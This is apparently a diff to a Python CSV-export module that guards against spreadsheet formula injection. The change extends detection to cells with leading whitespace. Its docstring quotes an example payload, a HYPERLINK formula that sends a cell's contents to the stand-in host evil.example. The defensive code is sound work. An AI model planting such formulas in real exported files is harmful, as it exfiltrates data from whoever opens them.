@@ -1,7 +1,9 @@
 """CSV files a person may open in a spreadsheet, safe from formula injection (docs/activation.md).
 
 A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, tab or CR as a formula, so a CRM
-first name `=HYPERLINK("http://evil.example/?d="&A2,"Mary")` would run on the marketer's machine.
+first name `=HYPERLINK("http://evil.example/?d="&A2,"Mary")` would run on the marketer's machine;
+so may one that starts with whitespace and then such a character (` =HYPERLINK(...)`), as an
+importer that trims cells reads it.
 OWASP's advice, applied here: such a cell is written with a single quote in front and in double
 quotes (`"'=HYPERLINK(..."`), which a spreadsheet shows as text. A plain number (`-5`, `+49`,
 `1e-3`) is data, not a formula, and is written as it is: a spreadsheet reads it as the number it
@@ -34,10 +36,12 @@ def _text(value: object) -> str:
 
 
 def is_formula(value: object) -> bool:
-    """Whether a spreadsheet would run the cell: it starts with a formula character and is not a
-    plain number."""
+    """Whether a spreadsheet would run the cell: its first character, or its first after leading
+    whitespace (an importer may trim ` =1+1` to a formula), is a formula character, and it is not a
+    plain number (spaces around it allowed)."""
     text = _text(value)
-    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)
+    starts = text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)
+    return starts and not _PLAIN_NUMBER.fullmatch(text.strip(" "))
 
 
 def _quoted(text: str) -> str:
